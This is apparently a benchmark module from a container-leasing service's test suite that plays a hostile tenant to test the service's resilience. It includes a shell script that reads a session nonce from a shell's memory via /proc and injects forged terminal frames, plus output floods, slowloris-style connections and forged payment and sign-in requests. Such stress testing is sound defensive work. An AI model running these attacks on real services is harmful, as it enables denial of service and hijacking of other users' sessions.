"""What one noisy tenant or address does, in a process of its own that yields to all others.

    python -m tests.bench.attacks KIND URL RPC SECONDS

Everything comes from one address. It says `ready` when it begins, ends by itself, and then says in
JSON how its calls were answered. What runs in its containers is niced as well: on a real
installation that is another machine.
"""

import asyncio
import contextlib
import json
import os
import secrets
import sys
import time
from collections import Counter
from collections.abc import Awaitable, Callable
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import aiohttp
from eth_account import Account
from tests.support import payments

_NICENESS = 10
_RETRY_SECONDS = 5.0  # as the service asks of those whom it refuses
_WORK_SECONDS = 600
_OUTPUT_BYTES = 16 * 1024 * 1024
FOLLOWERS, BODIES, SOCKETS, PAYMENTS, SIGN_INS = 510, 505, 300, 150, 20
_BODY = {
    "sku": "standard-lxc",
    "runtimeMinutes": 60,
    "hostname": "noisy",
    "cores": 1,
    "memoryMB": 128,
    "diskGB": 1,
    "password": "correct horse",
}
#: Lowers the priority of all that has this terminal, and finds terminal and shell. Linux shares
#: out time by session first (sched(7), autogroup), and niceness counts only within a session.
_FIND_TERMINAL = r"""
p=$$ terminal= shell=
while [ "$p" -gt 1 ]; do
  found=$(readlink /proc/$p/fd/0)
  case $found in
    /dev/pts/*) terminal=$found shell=$p;;
    *) [ -z "$terminal" ] || break;;
  esac
  renice -n 10 -p $p >/dev/null 2>&1
  echo 19 2>/dev/null >/proc/$p/autogroup
  p=$(sed -n 's/^PPid:[^0-9]*//p' /proc/$p/status)
done
"""
#: Reads the session's nonce in its shell's memory, and writes broken frames with it, for ever.
_FORGE = (
    _FIND_TERMINAL
    + r"""
set -- $(sed -n 's/^\([0-9a-f]*\)-\([0-9a-f]*\) .*\[heap\]$/0x\1 0x\2/p' /proc/$shell/maps)
nonce=$(dd if=/proc/$shell/mem bs=4096 skip=$(($1 / 4096)) count=$((($2 - $1) / 4096)) 2>/dev/null |
  tr -c 'K=0-9a-f' '\n' | sed -n 's/^K=\([0-9a-f]\{12,\}\)$/\1/p' | tail -n 1)
line=$(printf '\033_%s o\377\033\134\033_%s D 0.1\033\134' "$nonce" "$nonce")
for i in 1 2 3 4 5 6; do line=$line$line; done
echo "nonce of ${#nonce} characters"
while :; do printf %s "$line"; done >"$terminal"
"""
)
_FLOOD = f"{_FIND_TERMINAL}nice -n 10 head -c {_OUTPUT_BYTES} /dev/zero"


class Attacker:
    """One tenant with some containers, and everything it can do wrong."""

    def __init__(self, session: aiohttp.ClientSession, url: str, rpc: str) -> None:
        self._session = session
        self._url = url
        self._rpc = rpc
        self._key = Account.create()
        self._leases: list[dict[str, Any]] = []
        self._accepted: dict[str, Any] = {}
        self.answers: Counter[str] = Counter()

    async def prepare(self, leases: int) -> None:
        """Lease some containers, honestly."""
        mint = {"jsonrpc": "2.0", "id": 1, "method": "devnet_mintUsdc"}
        call = {**mint, "params": [self._key.address, hex(10**9)]}
        async with self._session.post(self._rpc, json=call) as answer:
            await answer.read()
        async with self._session.post(f"{self._url}/lease/container", json=_BODY) as unpaid:
            self._accepted = (await unpaid.json())["accepts"][0]
        for _ in range(leases):
            async with self._session.post(
                f"{self._url}/lease/container", json=_BODY, headers=self._payment(honest=True)
            ) as answer:
                self._leases.append(await answer.json())

    async def forge(self) -> None:
        """C4: root in four guests writes frames of our session to the terminal."""
        await _together(lambda n: self._run(n, _FORGE), 4)

    async def flood(self) -> None:
        """C5: commands of 16 MiB of NULs, and readers that do not read."""
        await _together(self._flood_or_stare, 12)

    async def crowd(self) -> None:
        """C6: followers of events, paid bodies that do not end, websockets that say nothing."""
        lease = self._leases[0]
        path = f"/management/exec/{lease['ctid']}"
        wish = {"command": f"sleep {_WORK_SECONDS}", "detach": True}
        async with self._session.post(self._url + path, json=wish, headers=_token(lease)) as answer:
            path += f"/{(await answer.json())['execId']}"
        kinds: list[Callable[[int], Awaitable[None]]] = [lambda _: self._follow(lease, path)]
        kinds = kinds * FOLLOWERS + [self._send_half] * BODIES + [self._be_silent] * SOCKETS
        await _together(lambda n: kinds[n](n), len(kinds))

    async def swindle(self) -> None:
        """D10: payments that nobody signed, and sign-ins that nobody signed."""
        kinds: list[Callable[[int], Awaitable[None]]] = [self._pay_with_garbage] * PAYMENTS
        kinds += [self._sign_in_with_garbage] * SIGN_INS
        await _together(lambda n: kinds[n](n), len(kinds))

    async def _run(self, number: int, script: str) -> None:
        lease = self._leases[number % len(self._leases)]
        wish = {
            "command": script,
            "timeoutSeconds": _WORK_SECONDS,
            "maxOutputBytes": _OUTPUT_BYTES,
        }
        async with self._session.post(
            f"{self._url}/management/exec/{lease['ctid']}", json=wish, headers=_token(lease)
        ) as answer:
            size = len(await answer.read())
            self.answers[f"{answer.status}{', large' if size > 2**20 else ''}"] += 1
        if answer.status != 200:
            await asyncio.sleep(0.2)

    async def _flood_or_stare(self, number: int) -> None:
        if number % 3 == 0:
            await self._run(number, _FLOOD)
        else:
            await self._stare(self._leases[number % len(self._leases)])

    async def _stare(self, lease: dict[str, Any]) -> None:
        """Ask for a flood and read nothing of it."""
        wish = json.dumps({"command": _FLOOD, "maxOutputBytes": _OUTPUT_BYTES}).encode()
        head = _head("POST", f"/management/exec/{lease['ctid']}", len(wish), _token(lease))
        _, writer = await _connect(self._url, head + wish)
        try:
            await asyncio.sleep(_RETRY_SECONDS)
        finally:
            writer.close()
        self.answers["not read"] += 1

    async def _follow(self, lease: dict[str, Any], path: str) -> None:
        headers = {**_token(lease), "Accept": "text/event-stream"}
        async with self._session.get(self._url + path, headers=headers) as answer:
            self.answers[f"follower {answer.status}"] += 1
            async for _ in answer.content.iter_any():
                pass
        await asyncio.sleep(_RETRY_SECONDS)

    async def _send_half(self, _number: int) -> None:
        head = _head("POST", "/lease/container", 1000, self._payment(honest=False))
        reader, writer = await _connect(self._url, head + b"{")
        answer = await reader.read(64)
        self.answers[f"half a body {answer[9:12].decode()}"] += 1
        writer.close()
        await asyncio.sleep(_RETRY_SECONDS)

    async def _be_silent(self, _number: int) -> None:
        async with self._session.ws_connect(f"{self._url}/console/terminal/ws") as socket:
            await socket.receive()
            self.answers[f"silent socket {socket.close_code}"] += 1
        await asyncio.sleep(_RETRY_SECONDS)

    async def _pay_with_garbage(self, _number: int) -> None:
        async with self._session.post(
            f"{self._url}/lease/container", json=_BODY, headers=self._payment(honest=False)
        ) as answer:
            await answer.read()
            self.answers[f"garbage payment {answer.status}"] += 1
            await _heed(answer)

    async def _sign_in_with_garbage(self, _number: int) -> None:
        wish = {"address": "0x" + secrets.token_hex(20)}
        async with self._session.post(f"{self._url}/auth/challenge", json=wish) as answer:
            challenge = await answer.json()
            await _heed(answer)
        proof = {"message": challenge.get("message", ""), "signature": secrets.token_hex(65)}
        async with self._session.post(f"{self._url}/auth/token", json=proof) as answer:
            await answer.read()
            self.answers[f"garbage sign-in {answer.status}"] += 1
            await _heed(answer)

    def _payment(self, *, honest: bool) -> dict[str, str]:
        terms = payments.requirements(
            amount_atomic=int(self._accepted["maxAmountRequired"]),
            pay_to=self._accepted["payTo"].lower(),
            max_timeout_seconds=self._accepted["maxTimeoutSeconds"],
        )
        until = int(time.time()) + self._accepted["maxTimeoutSeconds"]
        changes: dict[str, Any] = {"key": self._key}
        if not honest:
            nobody = "0x" + secrets.token_hex(20)
            changes = {"payer": nobody, "signature": f"0x{secrets.token_hex(64)}1b"}
        paid = payments.payment(version=1, terms=terms, valid_before=until, **changes)
        return {"X-PAYMENT": payments.encode(payments.document(paid, terms))}


async def _together(act: Callable[[int], Awaitable[None]], count: int) -> None:
    """Do something in so many places at once, again and again, for ever."""

    async def go_on(number: int) -> None:
        while True:
            try:
                await act(number)
            except (aiohttp.ClientError, OSError, TimeoutError):
                await asyncio.sleep(1)

    await asyncio.gather(*(go_on(number) for number in range(count)))


async def _heed(answer: aiohttp.ClientResponse) -> None:
    """Wait as long as a refusal asks."""
    if answer.status in {429, 503}:
        await asyncio.sleep(float(answer.headers.get("Retry-After", _RETRY_SECONDS)))


async def _connect(url: str, sent: bytes) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    where = urlsplit(url)
    reader, writer = await asyncio.open_connection(where.hostname, where.port, limit=1024)
    writer.write(sent)
    return reader, writer


def _head(method: str, path: str, length: int, headers: dict[str, str]) -> bytes:
    lines = [f"{method} {path} HTTP/1.1", "Host: service", "Content-Type: application/json"]
    lines += [f"Content-Length: {length}", *(f"{name}: {headers[name]}" for name in headers)]
    return "\r\n".join([*lines, "", ""]).encode()


def _token(lease: dict[str, Any]) -> dict[str, str]:
    return {"Authorization": f"Bearer {lease['accessToken']}"}


def _yield_to_others() -> None:
    """Lower the priority of this process, which must lead a session of its own."""
    os.nice(_NICENESS)
    with contextlib.suppress(OSError):  # a kernel without autogroups
        Path("/proc/self/autogroup").write_text("19")


ATTACKS: dict[str, tuple[int, Callable[[Attacker], Awaitable[None]]]] = {
    "forged frames": (4, Attacker.forge),
    "floods": (2, Attacker.flood),
    "crowds": (1, Attacker.crowd),
    "garbage": (0, Attacker.swindle),
}
"""By name: how many leases it needs, and what it does."""


async def main(kind: str, url: str, rpc: str, seconds: float) -> None:
    """Attack for a while, and tell how it was answered."""
    leases, attack = ATTACKS[kind]
    connector = aiohttp.TCPConnector(limit=0)
    patience = aiohttp.ClientTimeout(total=None)
    async with aiohttp.ClientSession(connector=connector, timeout=patience) as session:
        attacker = Attacker(session, url, rpc)
        await attacker.prepare(leases)
        _yield_to_others()
        print("ready", flush=True)
        try:
            async with asyncio.timeout(seconds):
                await attack(attacker)
        except TimeoutError:
            print(json.dumps(attacker.answers), flush=True)


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1], sys.argv[2], sys.argv[3], float(sys.argv[4])))
